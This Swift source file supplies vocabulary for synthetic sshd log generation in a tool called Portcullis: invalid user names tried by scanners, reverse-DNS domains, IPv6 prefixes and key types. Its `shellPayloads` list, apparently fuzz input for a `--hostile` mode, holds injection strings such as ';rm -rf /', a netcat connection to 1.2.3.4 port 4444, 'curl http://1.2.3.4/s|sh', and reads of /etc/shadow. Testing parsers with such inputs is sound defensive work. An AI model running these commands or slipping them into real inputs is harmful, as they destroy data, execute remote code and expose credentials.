/// Word lists for the sample log: the kind of user names, reverse-DNS names and
/// provider prefixes a public sshd sees. Written for Portcullis; the mix of invalid
/// user names follows what internet-wide ssh scanners commonly try.
enum SampleVocabulary {
    private static func bytes(_ words: [String]) -> [[UInt8]] { words.map { Array($0.utf8) } }

    /// Names tried by scanners that do not exist on the host ("Invalid user …").
    static let invalidUsers: [[UInt8]] = bytes([
        "admin", "support", "oracle", "test", "user", "guest", "ubnt", "ubuntu", "webmaster",
        "ftpuser", "deploy", "cisco", "anonymous", "default", "pi", "postgres", "mysql",
        "git", "nagios", "monitor", "operator", "www", "www-data", "vnc", "redhat", "centos",
        "debian", "hadoop", "spark", "elastic", "jenkins", "tomcat", "minecraft", "steam",
        "teamspeak", "ts3", "ftp", "apache", "nginx", "dev", "developer", "backup", "sysadmin",
        "manager", "api", "jira", "zabbix", "odoo", "mother", "uucp", "matlab", "inspur",
        "magnos", "pgadmin", "Management", "PlcmSpIp", "FILTER", "0", "1234", "123456", "123",
        "abc", "boot", "ghost", "cyrus", "butter", "system", "service", "server", "student",
        "teacher", "office", "info", "sales", "mail", "postfix", "demo", "prueba", "usuario",
        "administrator", "Admin", "root1", "toor", "user1", "test1", "test2", "test9", "admin1",
    ])

    /// Accounts that exist on the host; "Failed password for root …" dominates real logs.
    static let existingUsers: [[UInt8]] = bytes(["root", "root", "root", "root", "root", "root", "bin", "daemon", "mail", "ftp"])

    /// Legitimate users who log in successfully.
    static let staffUsers: [[UInt8]] = bytes(["fztu", "alice", "bob", "deploy", "backup", "carol"])

    /// Domains for "reverse mapping checking getaddrinfo for <name> [<ip>] failed".
    static let reverseDomains: [[UInt8]] = bytes([
        "rev.poneytelecom.eu", "static.vnpt.vn", "dynamic-dsl-ip.omantel.net.om", "user.vivozap.com.br",
        "sta.uninet-ide.com.mx", "broadband.kyivstar.net", "adsl.tpnet.pl", "dyn.telefonica.de",
        "cust.ip.example.net", "pool.hinet.net",
    ])

    /// First two groups of IPv6 addresses: hosting providers' allocations.
    static let ipv6Prefixes: [(UInt16, UInt16)] = [
        (0x2a01, 0x4f8), (0x2604, 0xa880), (0x2400, 0x6180), (0x2a03, 0xb0c0), (0x2001, 0x41d0),
        (0x2607, 0xf8b0), (0x240e, 0x3a1), (0x2a02, 0x4780), (0x2001, 0xbc8), (0x2406, 0xda18),
    ]

    /// Clients' key types for "Accepted publickey …: <type> SHA256:<hash>".
    static let keyTypes: [StaticString] = ["RSA", "ED25519", "ECDSA"]

    /// Shell metacharacter payloads for `--hostile`.
    static let shellPayloads: [[UInt8]] = bytes([
        "$(reboot)", "`id`", ";rm -rf /", "a|nc 1.2.3.4 4444", "x&&curl http://1.2.3.4/s|sh", "'\"><script>",
        "$(echo${IFS}pwned)", "x>/etc/passwd", "%n%n%n%s", "../../../../etc/shadow", "\\x00\\n",
    ])

    /// Invalid UTF-8 byte sequences for `--hostile`.
    static let badUTF8: [[UInt8]] = [
        [0xFF, 0xFE], [0xC3, 0x28], [0xC0, 0xAF], [0x80], [0xED, 0xA0, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80],
        [0xE2, 0x82], [0xF0, 0x9F, 0x98],
    ]
}
